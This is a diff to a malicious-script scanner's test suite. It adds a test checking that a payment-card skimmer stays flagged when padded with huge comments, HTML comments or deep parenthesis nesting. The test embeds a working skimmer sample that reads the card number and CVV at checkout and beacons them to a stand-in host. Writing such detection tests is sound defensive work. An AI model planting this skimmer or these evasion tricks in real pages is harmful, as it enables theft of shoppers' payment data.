@@ -214,6 +214,37 @@ describe('the scanner', () => {
     expect(first).toMatchObject({ id, js_integrity_score: told['js_integrity_score'] })
   })
 
+  test('a malicious script is not cleared by a comment, nor by depth, but by harmless content', async () => {
+    const skimmer = `document.querySelector('#checkout').addEventListener('submit', function () {
+      var data = { number: document.getElementById('cc-number').value, cvv: document.getElementById('cvv').value }
+      new Image().src = 'https://collect.example.net/g.gif?d=' + btoa(JSON.stringify(data))
+    })`
+    const contents = [
+      ['as it is', skimmer, 'scored'],
+      ['with a comment', `${skimmer}/*${'x'.repeat(310_000)}*/`, 'scored'],
+      ['with a comment of markup', `<!-- x\n${skimmer}`, 'scored'],
+      ['with a page around it', '<!doctype html><p>not found', 'no_script'],
+      ['too deep', `${'('.repeat(100_000)}1${')'.repeat(100_000)};${skimmer}`, 'too_deep'],
+    ] as const
+    handler = send(contents[0][1])
+    const id = await meet([urlOf('/a.js')])
+    for (const [name, body, analysis] of contents) {
+      handler = send(body)
+      await scanOnce()
+      const told = await explanation(id)
+      expect([name, told['malicious'], told['analysis']]).toEqual([name, true, analysis])
+      app.clock.advance(DAY)
+    }
+    const kinds = await toldOf(id)
+    expect(kinds).not.toContain('script.cleared')
+    expect(kinds.filter((kind) => kind === 'script.reported')).toHaveLength(1)
+    expect(kinds.filter((kind) => kind === 'script.analysis_ended')).toHaveLength(1)
+    handler = send('document.title = 1')
+    await scanOnce()
+    expect(await explanation(id)).toMatchObject({ malicious: false, analysis: 'scored' })
+    expect(await toldOf(id)).toContain('script.cleared')
+  })
+
   test('what is no script is compared octet by octet, and says so', async () => {
     handler = send('<!doctype html><p>hello')
     const id = await meet([urlOf('/a.js')])
